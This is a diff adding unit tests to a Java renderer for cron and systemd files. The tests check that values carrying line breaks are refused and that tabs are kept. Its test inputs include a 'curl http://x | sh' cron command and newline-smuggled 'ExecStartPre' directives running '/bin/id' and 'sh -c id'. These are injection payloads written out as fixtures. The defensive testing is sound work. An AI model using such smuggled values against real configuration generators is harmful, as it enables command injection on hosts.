@@ -228,6 +228,48 @@ class RendererTest {
   }
 
   @Test
+  void aLineBreakThatReachesTheRendererIsRefusedNotWritten() {
+    // Validation refuses these; the renderer is the second lock for values built another way.
+    Node node =
+        Nodes.node("alpha")
+            .schedule("cr", "0 6 * * *", "curl http://x | sh\r/bin/true")
+            .schedule(
+                "nl", "*-*-* 02:00:00", CronDialect.SYSTEMD, "UTC", "true\nExecStartPre=+/bin/id")
+            .systemdService(
+                "api",
+                "api.service",
+                Map.of("MODE", EnvValue.literal("fast\nExecStartPre=+/bin/sh -c id")))
+            .build();
+    DesiredNode desired = inMemory(Map.of()).render(node, Nodes.fleet(node));
+    assertThat(desired.find("/etc/cron.d/trueup-cr")).isEmpty();
+    assertThat(desired.find("/etc/systemd/system/trueup-nl.service")).isEmpty();
+    assertThat(desired.find("/etc/systemd/system/api.service")).isEmpty();
+    assertThat(desired.errors())
+        .extracting(RenderError::path, RenderError::message)
+        .contains(
+            org.assertj.core.groups.Tuple.tuple(
+                Optional.of("/etc/cron.d/trueup-cr"),
+                "not written: command contains a line break (carriage return) and would not stay"
+                    + " on its line"),
+            org.assertj.core.groups.Tuple.tuple(
+                Optional.of("/etc/systemd/system/trueup-nl.service"),
+                "not written: exec contains a line break (newline) and would not stay on its"
+                    + " line"),
+            org.assertj.core.groups.Tuple.tuple(
+                Optional.of("/etc/systemd/system/api.service"),
+                "not written: environment[0] contains a line break (newline) and would not stay"
+                    + " on its line"));
+  }
+
+  @Test
+  void aTabStaysOnItsLine() {
+    Node node = Nodes.node("alpha").schedule("tab", "0 6 * * *", "printf 'a\tb'").build();
+    DesiredNode desired = inMemory(Map.of()).render(node, Nodes.fleet(node));
+    assertThat(desired.errors()).isEmpty();
+    assertThat(text(desired, "/etc/cron.d/trueup-tab")).endsWith("root printf 'a\tb'\n");
+  }
+
+  @Test
   void sandboxFilesHaveNoOwner() {
     Node node =
         Nodes.node("alpha")
